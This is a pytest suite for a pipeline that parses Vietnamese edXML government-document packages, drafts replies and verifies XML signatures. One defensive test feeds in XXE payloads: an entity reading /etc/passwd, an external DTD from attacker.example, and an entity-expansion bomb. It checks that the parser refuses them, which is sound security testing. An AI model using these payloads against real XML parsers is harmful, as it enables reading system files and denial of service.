"""edXML packages (QCVN 102:2016/BTTTT, issue 20): reading them in, writing replies out, refusing bad ones."""
import base64
from datetime import date
from pathlib import Path

import pytest
from click.testing import CliRunner

from conftest import CORPUS
from pipeline.cli import main
from pipeline.edxml import MAPPING, NS, parse_package, write_reply_package
from pipeline.extract import extract
from pipeline.generate import issue, render_draft
from pipeline.ingest import ingest
from pipeline.org import EXAMPLE, load_org
from pipeline.process import process_file
from pipeline.read import read
from pipeline.records import ReadError
from pipeline.store import open_store

PDF = CORPUS / "a_20_ttyt_nhatrang_cv__pdf.pdf"  # 876/TTYT-KHNV, 19/06/2023, TRUNG TÂM Y TẾ THÀNH PHỐ NHA TRANG
DOCX = CORPUS / "a_20_ttyt_nhatrang_cv__docx.docx"  # the same letter as DOCX
OTHER_DOCX = CORPUS / "a_07_bgddt_cv_tuyensinh__docx.docx"
TXT = CORPUS / "a_01_bhxh_qngai_thuno__txt.txt"
FIELDS = ("kind", "doc_type", "number", "issued_on", "place", "issuer", "parent_body", "subject", "recipients",
          "distribution")


def b64(path: Path) -> str:
    return base64.b64encode(Path(path).read_bytes()).decode("ascii")


def attachment(name: str, content_type: str, data: str, cid: str) -> str:
    return (f"<Attachment><ContentType>{content_type}</ContentType><ContentId>{cid}</ContentId>"
            f"<Description>Tệp đính kèm</Description><ContentTransferEncoded>\n{data}\n</ContentTransferEncoded>"
            f"<AttachmentName>{name}</AttachmentName></Attachment>")


def package(header: str = None, attachments: str = "", prolog: str = "") -> bytes:
    """A package written by hand the way exchange systems lay it out."""
    if header is None:
        header = """
      <edXML:From><edXML:OrganId>000.00.15.H34</edXML:OrganId>
        <edXML:OrganizationInCharge>Sở Y tế tỉnh Khánh Hòa</edXML:OrganizationInCharge>
        <edXML:OrganName>Trung tâm Y tế thành phố Nha Trang</edXML:OrganName></edXML:From>
      <edXML:To><edXML:OrganId>000.00.12.H47</edXML:OrganId><edXML:OrganName>Sở Y tế tỉnh Sơn La</edXML:OrganName></edXML:To>
      <edXML:Code><edXML:CodeNumber>876</edXML:CodeNumber><edXML:CodeNotation>TTYT-KHNV</edXML:CodeNotation></edXML:Code>
      <edXML:PromulgationInfo><edXML:Place>Nha Trang</edXML:Place>
        <edXML:PromulgationDate>2023/06/19</edXML:PromulgationDate></edXML:PromulgationInfo>
      <edXML:DocumentType><edXML:Type>1</edXML:Type><edXML:TypeName>Công văn</edXML:TypeName></edXML:DocumentType>
      <edXML:Subject>Phối hợp tổ chức khám sức khỏe định kỳ cho người cao tuổi năm 2023</edXML:Subject>
      <edXML:Content>Đề nghị phối hợp.</edXML:Content>
      <edXML:SignerInfo><edXML:Competence>Q. GIÁM ĐỐC</edXML:Competence><edXML:Position></edXML:Position>
        <edXML:FullName>Bùi Thanh Tùng</edXML:FullName></edXML:SignerInfo>
      <edXML:DueDate>2023/06/30</edXML:DueDate>
      <edXML:OtherInfo><edXML:Priority>0</edXML:Priority><edXML:SphereOfPromulgation>Liên thông văn bản quốc gia</edXML:SphereOfPromulgation></edXML:OtherInfo>
      <edXML:SteeringType>0</edXML:SteeringType>
      <edXML:DocumentId>000.00.15.H34,2023/06/19,876/TTYT-KHNV</edXML:DocumentId>"""
    return f"""<?xml version="1.0" encoding="utf-8"?>{prolog}
<edXML xmlns="{NS}">
  <edXML:edXMLEnvelope xmlns:edXML="{NS}">
    <edXML:edXMLHeader>
      <edXML:MessageHeader>{header}
      </edXML:MessageHeader>
      <edXML:TraceHeaderList><edXML:TraceHeader><edXML:OrganId>000.00.15.H34</edXML:OrganId>
        <edXML:Timestamp>2023/06/19 10:00:00</edXML:Timestamp></edXML:TraceHeader></edXML:TraceHeaderList>
      <edXML:DigitalSignature/>
    </edXML:edXMLHeader>
    <edXML:edXMLBody><edXML:edXMLManifest version="1.0"/></edXML:edXMLBody>
  </edXML:edXMLEnvelope>
  <AttachmentEncoded>{attachments}</AttachmentEncoded>
</edXML>
""".encode("utf-8")


def record_of(tmp_path, data: bytes, name: str = "goi.edxml"):
    path = tmp_path / name
    path.write_bytes(data)
    return process_file(str(path))


@pytest.fixture
def org(tmp_path):
    path = tmp_path / "congvan.toml"
    path.write_text(EXAMPLE.replace('# organ_id = "000.00.12.H41"', 'organ_id = "000.00.12.H47"'), encoding="utf-8")
    return load_org(str(path))


# --------------------------------------------------------------------------- reading


def test_the_mapping_is_one_table_of_element_and_field():
    fields = [f for _, f in MAPPING]
    assert len(fields) == len(set(fields))
    assert {"number", "issued_on", "issuer", "subject", "signer.name"} <= set(fields)


def test_the_readme_table_names_every_element_and_field_of_the_mapping():
    import re

    readme = (Path(__file__).resolve().parent.parent / "README.md").read_text(encoding="utf-8")
    table = readme.split("| edXML (under `MessageHeader`) | record field |", 1)[1].split("\n\n", 1)[0]
    rows = [line.split("|")[1:3] for line in table.splitlines() if line.startswith("| `")]
    for element, name in MAPPING:
        paths = [p.strip() for p in element.split("+")]  # "SignerInfo/Position" may stand as "`Position`"
        row = next((r for r in rows if all(f"`{p}`" in r[0] for p in paths)), None) or \
            next((r for r in rows if all(f"`{p.split('/')[-1]}`" in r[0] for p in paths)), None)
        assert row is not None, element
        assert re.search(rf"`(signer)?\.?{re.escape(name.split('.')[-1])}`", row[1]), (element, name, row[1])


def test_a_package_is_read_through_its_pdf_with_vietnamese_metadata(tmp_path):
    """Several attachment types: the PDF is the document; the DOCX and the spreadsheet are named."""
    files = (attachment("Phụ lục số liệu.xlsx", "application/vnd.ms-excel", base64.b64encode(b"PK\x03\x04xx").decode(),
                        "c1")
             + attachment("876-TTYT-KHNV.docx", "application/vnd.openxmlformats-officedocument."
                          "wordprocessingml.document", b64(DOCX), "c2")
             + attachment("876-TTYT-KHNV.pdf", "application/pdf", b64(PDF), "c3"))
    record = record_of(tmp_path, package(attachments=files))
    assert record.kind == "dispatch" and not record.error
    assert record.number == "876/TTYT-KHNV" and record.issued_on == "2023-06-19"
    # the same value in other letters and case keeps the document's own printing, with its span
    assert record.issuer == "TRUNG TÂM Y TẾ THÀNH PHỐ NHA TRANG" and "issuer" in record.spans
    assert record.subject == "phối hợp tổ chức khám sức khỏe định kỳ cho người cao tuổi năm 2023"
    assert record.signer.name == "Bùi Thanh Tùng" and record.signer.authority == "Q. GIÁM ĐỐC"
    assert record.review == [] and not [w for w in record.warnings if w.code.startswith("edxml-")]
    source = read(tmp_path / "goi.edxml")
    assert source.format == "pdf" and source.path.endswith("goi.edxml")
    assert any("876-TTYT-KHNV.pdf" in n for n in source.notes)
    assert any("876-TTYT-KHNV.docx" in n for n in source.notes)  # the other attachments are named
    assert any("000.00.15.H34" in n for n in source.notes)


def test_text_and_docx_attachments_and_the_xml_suffix(tmp_path):
    """A .xml that is an envelope is a package; a plain-text attachment is read too."""
    header = """<edXML:From><edXML:OrganId>000.00.30.H55</edXML:OrganId>
        <edXML:OrganName>Bảo hiểm xã hội tỉnh Quảng Ngãi</edXML:OrganName></edXML:From>
      <edXML:Code><edXML:CodeNumber>412</edXML:CodeNumber><edXML:CodeNotation>BHXH-QLT</edXML:CodeNotation></edXML:Code>
      <edXML:PromulgationInfo><edXML:PromulgationDate>2024/03/05</edXML:PromulgationDate></edXML:PromulgationInfo>
      <edXML:Subject>đôn đốc thu nợ BHXH, BHYT, BHTN quý I năm 2024</edXML:Subject>"""
    record = record_of(tmp_path, package(header, attachment("cv.txt", "text/plain", b64(TXT), "t1")), "goi.xml")
    assert (record.number, record.issued_on, record.issuer) == \
        ("412/BHXH-QLT", "2024-03-05", "BẢO HIỂM XÃ HỘI TỈNH QUẢNG NGÃI")
    assert record.review == []
    record = record_of(tmp_path, package(None, attachment("cv.docx", "", b64(DOCX), "d1")), "docx.xml")
    assert record.number == "876/TTYT-KHNV" and record.review == []


def test_missing_optional_elements_and_no_attachment(tmp_path):
    """Only From, Code and Subject: the record is what the package declares."""
    header = """<edXML:From><edXML:OrganName>Ủy ban nhân dân xã Phước Hậu</edXML:OrganName></edXML:From>
      <edXML:Code><edXML:CodeNumber>15</edXML:CodeNumber><edXML:CodeNotation>UBND-VP</edXML:CodeNotation></edXML:Code>
      <edXML:Subject>Về việc báo cáo kết quả thu hoạch lúa vụ Hè Thu</edXML:Subject>"""
    record = record_of(tmp_path, package(header))
    assert record.kind == "dispatch" and not record.error
    assert (record.number, record.issuer, record.issued_on) == ("15/UBND-VP", "Ủy ban nhân dân xã Phước Hậu", None)
    assert "báo cáo kết quả thu hoạch lúa" in record.subject


def test_metadata_contradicting_the_attached_pdf_is_flagged_and_outranks_it(tmp_path):
    header = """<edXML:From><edXML:OrganId>000.00.15.H34</edXML:OrganId>
        <edXML:OrganName>Sở Tài chính tỉnh Khánh Hòa</edXML:OrganName></edXML:From>
      <edXML:Code><edXML:CodeNumber>877</edXML:CodeNumber><edXML:CodeNotation>TTYT-KHNV</edXML:CodeNotation></edXML:Code>
      <edXML:PromulgationInfo><edXML:PromulgationDate>2023/06/21</edXML:PromulgationDate></edXML:PromulgationInfo>
      <edXML:Subject>Về việc quyết toán kinh phí sự nghiệp năm 2022</edXML:Subject>"""
    record = record_of(tmp_path, package(header, attachment("cv.pdf", "application/pdf", b64(PDF), "p")))
    assert (record.number, record.issued_on, record.issuer) == ("877/TTYT-KHNV", "2023-06-21",
                                                               "Sở Tài chính tỉnh Khánh Hòa")
    assert record.subject == "Về việc quyết toán kinh phí sự nghiệp năm 2022"
    flagged = {entry["field"]: entry["reason"] for entry in record.review}
    assert set(flagged) >= {"number", "issued_on", "issuer", "subject"}
    assert "876/TTYT-KHNV" in flagged["number"] and "19/06/2023" in flagged["issued_on"]
    assert all(reason.startswith("gói edXML khai báo") for reason in flagged.values())
    assert {w.field for w in record.warnings if w.code == "edxml-mismatch"} >= {"number", "issued_on", "issuer", "subject"}
    assert "number" not in record.spans  # the span pointed at the document's own number
    # other fields still come from the attached document
    assert record.signer.name == "Bùi Thanh Tùng" and record.place == "Nha Trang"
    store = open_store(str(tmp_path / "c.db"))
    summary = ingest([str(tmp_path / "goi.edxml")], store, received_on=date(2023, 6, 22))
    assert summary.needs_review == 1


@pytest.mark.parametrize("data, reason", [
    (b"<?xml version='1.0'?><edXML xmlns='http://www.mic.gov.vn/TBT/QCVN_102_2016'><edXML:edXMLEnvelope",
     "not well-formed"),
    (b"<?xml version='1.0'?><edXML xmlns='http://www.mic.gov.vn/TBT/QCVN_102_2016'><Other/></edXML>",
     "no edXMLEnvelope"),
    (package("<edXML:Subject>x</edXML:Subject>"), "without From"),
    (package(None, attachment("a.pdf", "application/pdf", "@@not base64@@", "x")), "not valid base64"),
    (package(None).replace(b"2023/06/19</edXML:Prom", "ngày 19</edXML:Prom".encode()), "not a date"),
    (package(None, "<Attachment><AttachmentName>a.pdf</AttachmentName></Attachment>"), "has no content"),
])
def test_a_malformed_package_is_a_clear_error_never_a_crash(tmp_path, data, reason):
    path = tmp_path / "hong.edxml"
    path.write_bytes(data)
    with pytest.raises(ReadError, match=reason):
        read(path)
    record = process_file(str(path))
    assert record.kind == "error" and reason in record.error


def test_an_xml_file_that_is_no_package_says_so(tmp_path):
    path = tmp_path / "data.xml"
    path.write_bytes(b"<?xml version='1.0'?><rows><row>1</row></rows>")
    assert "not an edXML package" in process_file(str(path)).error


@pytest.mark.parametrize("prolog", [
    '<!DOCTYPE edXML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE edXML SYSTEM "http://attacker.example/evil.dtd">',
    '<!DOCTYPE edXML [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>',
])
def test_external_entities_and_entity_bombs_are_refused(tmp_path, prolog):
    data = package(None, prolog=prolog).replace(b"<edXML:Content>", b"<edXML:Content>&xxe;&c;")
    record = record_of(tmp_path, data)
    assert record.kind == "error" and "DOCTYPE" in record.error
    assert "root:" not in record.to_dict().__repr__()


def test_oversized_packages_and_attachments_are_refused(tmp_path, monkeypatch):
    toml = tmp_path / "congvan.toml"
    toml.write_text("[limits]\nfile_mb = 0.1\n", encoding="utf-8")
    monkeypatch.setenv("CONGVAN_ORG", str(toml))
    big = base64.b64encode(b"%PDF-1.4\n" + b"0" * 105_000).decode()  # the package is still under 1.5 × 0.1 MB
    with pytest.raises(ReadError, match=r"edXML attachment too large \(no. 1, .*file_mb"):
        parse_package(package(None, attachment("big.pdf", "application/pdf", big, "b")))
    with pytest.raises(ReadError, match="edXML package too large"):
        parse_package(b" " * 160_000 + package(None))
    half = base64.b64encode(b"%PDF-1.4\n" + b"0" * 52_000).decode()
    two = "".join(attachment(f"p{i}.pdf", "application/pdf", half, f"h{i}") for i in range(2))
    with pytest.raises(ReadError, match="attachments too large together"):
        parse_package(package(None, two))
    record = record_of(tmp_path, package(None, attachment("big.pdf", "application/pdf", big, "b")))
    assert record.kind == "error" and "limit 0.1 MB" in record.error


def test_a_nested_package_is_not_opened(tmp_path):
    inner = base64.b64encode(package(None)).decode()
    source = read(_write(tmp_path, package(None, attachment("inner.edxml", "application/xml", inner, "n"))))
    assert source.format == "edxml" and any("lồng nhau" in n for n in source.notes)


def _write(tmp_path, data: bytes) -> Path:
    path = tmp_path / "p.edxml"
    path.write_bytes(data)
    return path


# --------------------------------------------------------------------------- writing: the reply


@pytest.fixture
def incoming(tmp_path):
    """The store, with 876/TTYT-KHNV received as an edXML package."""
    path = tmp_path / "in.edxml"
    path.write_bytes(package(None, attachment("876.docx", "", b64(DOCX), "d")))
    store = open_store(str(tmp_path / "c.db"))
    ingest([str(path)], store, received_on=date(2023, 6, 22))
    return store


def test_round_trip_reply_to_edxml_to_record(incoming, org, tmp_path):
    """A reply written as a package reads back with the fields the DOCX itself gives, nothing flagged."""
    doc = incoming.get(1)
    draft = render_draft("phuc-dap", doc, org, {}, today=date(2026, 3, 2), signer="pho-giam-doc")
    issued = issue(incoming, draft, org, folder=tmp_path)
    target = write_reply_package(draft, org, issued.path, doc)
    assert target == tmp_path / "01-SYT-VP.edxml"
    record = process_file(str(target))
    direct = extract(read(issued.path))
    for name in FIELDS:
        assert getattr(record, name) == getattr(direct, name), name
    assert record.signer == direct.signer
    assert (record.number, record.issued_on, record.subject) == \
        (draft.number, "2026-03-02", draft.subject)
    assert (record.signer.authority, record.signer.name) == ("KT. GIÁM ĐỐC", "Trần Thị Bình")
    assert record.review == []
    sent = parse_package(target.read_bytes())
    assert sent.sender.organ_id == "000.00.12.H47" and sent.sender.name == "Sở Y tế tỉnh Sơn La"
    assert [(r.organ_id, r.name) for r in sent.receivers] == [("000.00.15.H34", "Trung tâm Y tế thành phố Nha Trang")]
    assert sent.response_for == {"OrganId": "000.00.15.H34", "Code": "876/TTYT-KHNV", "PromulgationDate": "2023/06/19",
                                 "DocumentId": "000.00.15.H34,2023/06/19,876/TTYT-KHNV"}
    assert [a.name for a in sent.attachments] == ["01-SYT-VP.docx"]
    assert sent.attachments[0].data == issued.path.read_bytes()


def test_cli_reply_edxml(incoming, org, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(main, ["reply", "1", "--db", str(tmp_path / "c.db"), "--org", org.path,
                                       "--date", "05/01/2026", "--edxml"])
    assert result.exit_code == 0, result.output
    assert "01-SYT-VP.edxml" in result.output.splitlines()[-1]
    sent = parse_package((tmp_path / "01-SYT-VP.edxml").read_bytes())
    assert sent.fields["number"] == "01/SYT-VP" and sent.response_for["Code"] == "876/TTYT-KHNV"


def test_reply_to_a_document_not_received_as_edxml_is_addressed_by_name(tmp_path, org):
    store = open_store(str(tmp_path / "c.db"))
    ingest([str(OTHER_DOCX)], store, received_on=date(2024, 4, 5))
    doc = store.get(1)
    draft = render_draft("phuc-dap", doc, org, {}, today=date(2026, 3, 2))
    issued = issue(store, draft, org, folder=tmp_path)
    sent = parse_package(write_reply_package(draft, org, issued.path, doc).read_bytes())
    assert [(r.organ_id, r.name) for r in sent.receivers] == [("", "BỘ GIÁO DỤC VÀ ĐÀO TẠO")]
    assert sent.response_for["Code"] == "1562/BGDĐT-GDTrH" and "DocumentId" not in sent.response_for


def test_a_signed_pdf_inside_a_package_has_its_signatures_checked(tmp_path):
    signed = CORPUS / "c_01_snv_hatinh_esigned__pdf-esigned.pdf"
    header = """<edXML:From><edXML:OrganName>Sở Nội vụ tỉnh Hà Tĩnh</edXML:OrganName></edXML:From>
      <edXML:Code><edXML:CodeNumber>627</edXML:CodeNumber><edXML:CodeNotation>SNV-CCVC</edXML:CodeNotation></edXML:Code>"""
    record = record_of(tmp_path, package(header, attachment("627.pdf", "application/pdf", b64(signed), "s")))
    direct = process_file(str(signed))
    assert record.number == "627/SNV-CCVC" and record.signatures
    assert len(record.signatures) == len(direct.signatures)


def test_a_declared_value_settles_what_the_text_left_in_doubt():
    from pipeline.edxml import Package, apply_package
    from pipeline.records import Record, SourceText

    record = Record(source="p.edxml", kind="dispatch", number="", issued_on="2024-03-05",
                    review=[{"field": "number", "reason": "số đọc bằng OCR chưa chắc"},
                            {"field": "issued_on", "reason": "ngày đọc bằng OCR chưa chắc"},
                            {"field": "signer.name", "reason": "tên người ký chưa chắc"}])
    source = SourceText(path="p.edxml", format="pdf", lines=[])
    source.edxml = Package(fields={"number": "412/BHXH-QLT", "issued_on": "2024-03-05"})
    apply_package(record, source)
    assert record.number == "412/BHXH-QLT" and record.issued_on == "2024-03-05"
    assert [entry["field"] for entry in record.review] == ["signer.name"]  # not declared: still to check


# --------------------------------------------------------------------------- the package's XML signature


@pytest.fixture(scope="module")
def signing_key():
    """A throwaway RSA key and its self-signed certificate, as an agency's signing certificate."""
    from datetime import datetime, timedelta, timezone

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import rsa
    from cryptography.x509.oid import NameOID

    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Trung tâm Y tế thành phố Nha Trang"),
                      x509.NameAttribute(NameOID.ORGANIZATION_NAME, "Sở Y tế tỉnh Khánh Hòa")])
    now = datetime.now(timezone.utc)
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
            .serial_number(x509.random_serial_number()).not_valid_before(now - timedelta(days=1))
            .not_valid_after(now + timedelta(days=365)).sign(key, hashes.SHA256()))
    pem_key = key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                serialization.NoEncryption())
    return pem_key, cert.public_bytes(serialization.Encoding.PEM)


def signed(data: bytes, signing_key) -> bytes:
    """The package with an enveloped XML signature over the whole of it (as an e-office signs)."""
    from lxml import etree
    from signxml import XMLSigner

    root = etree.fromstring(data)
    signed_root = XMLSigner().sign(root, key=signing_key[0], cert=signing_key[1])
    return etree.tostring(signed_root, xml_declaration=True, encoding="utf-8")


def test_a_signed_package_is_verified_and_the_signer_named(tmp_path, signing_key):
    pytest.importorskip("signxml")
    record = record_of(tmp_path, signed(package(None, attachment("876.docx", "", b64(DOCX), "d")), signing_key))
    [found] = [s for s in record.signatures if s.get("kind") == "xmldsig"]
    assert (found["state"], found["signer_cn"], found["signer_o"]) == \
        ("valid", "Trung tâm Y tế thành phố Nha Trang", "Sở Y tế tỉnh Khánh Hòa")
    assert "hợp lệ" in found["note"] and "chưa đối chiếu" in found["note"]  # the chain of trust is not claimed
    assert record.to_dict()["signatures"] == [found]  # in the record extract and ingest write
    assert not any(entry["field"] == "edxml" for entry in record.review)


def test_a_package_changed_after_signing_goes_to_review(tmp_path, signing_key):
    pytest.importorskip("signxml")
    data = signed(package(None, attachment("876.docx", "", b64(DOCX), "d")), signing_key)
    changed = data.replace("khám sức khỏe định kỳ".encode(), "khám sức khỏe đột xuất".encode())
    assert changed != data
    record = record_of(tmp_path, changed)
    flagged = [entry["reason"] for entry in record.review if entry["field"] == "edxml"]
    assert flagged and "không hợp lệ" in flagged[0] and "thay đổi sau khi ký" in flagged[0]
    store = open_store(str(tmp_path / "c.db"))
    ingest([str(tmp_path / "goi.edxml")], store, received_on=date(2023, 6, 22))
    assert store.get(1)["status"] == "needs_review"


@pytest.mark.parametrize("damage, state", [
    (lambda d: d.replace(b"<ds:SignatureValue>", b"<ds:SignatureValue>AAAA"), "broken"),
    (lambda d: d.replace(b"<ds:X509Certificate>", b"<ds:X509Certificate>@@"), "broken"),
    (lambda d: __import__("re").sub(rb"<ds:KeyInfo>.*</ds:KeyInfo>", b"", d, flags=16), "not checked"),
    (lambda d: d.replace(b"<ds:SignedInfo>", b"<ds:SignedInfo><junk/>"), "broken"),
])
def test_a_damaged_signature_is_said_so_never_a_crash(tmp_path, signing_key, damage, state):
    pytest.importorskip("signxml")
    data = damage(signed(package(None, attachment("876.docx", "", b64(DOCX), "d")), signing_key))
    found = parse_package(data).signature
    assert found is not None and found.state == state, found
    record = record_of(tmp_path, data)
    assert record.kind == "dispatch" and record.number == "876/TTYT-KHNV"
    assert any(entry["field"] == "edxml" for entry in record.review) == (state == "broken")
    assert [s["state"] for s in record.signatures] == [state]


def test_an_unsigned_package_says_nothing_of_a_signature(tmp_path):
    assert parse_package(package(None)).signature is None
    record = record_of(tmp_path, package(None, attachment("876.docx", "", b64(DOCX), "d")))
    assert record.signatures == [] and "signatures" not in record.to_dict()
